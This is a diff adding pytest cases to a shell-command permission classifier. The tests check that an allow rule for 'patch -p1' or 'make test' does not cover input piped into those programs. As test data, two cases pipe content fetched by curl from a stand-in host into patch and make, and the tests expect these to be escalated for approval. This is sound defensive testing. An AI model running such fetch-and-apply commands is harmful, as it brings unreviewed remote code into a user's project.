@@ -88,3 +88,20 @@ def test_letters_without_a_dash_are_options() -> None:
 def test_bulk_deletion_through_a_list_of_names(place: str, command: str) -> None:
     found = breach(classify(command, CONTEXT))
     assert (found.name if found is not None else "") == place
+
+
+@pytest.mark.parametrize(
+    ("allowed", "tried"),
+    [
+        ("patch -p1", "curl -s https://a.example/x | patch -p1"),
+        ("patch -p1", "patch -p1 < fix.diff"),
+        ("make test", "curl -s https://a.example/x | make test"),
+    ],
+)
+def test_a_rule_on_words_does_not_cover_what_a_program_is_fed(allowed: str, tried: str) -> None:
+    assert action(allowed, tried) == "ask"
+    assert "standard input" in propose(classify(tried, CONTEXT), PLACE).reason
+
+
+def test_what_is_fed_to_a_copying_program_is_only_copied() -> None:
+    assert action("ls -l | tee log.txt", "ls -l | tee log.txt") == "allow"
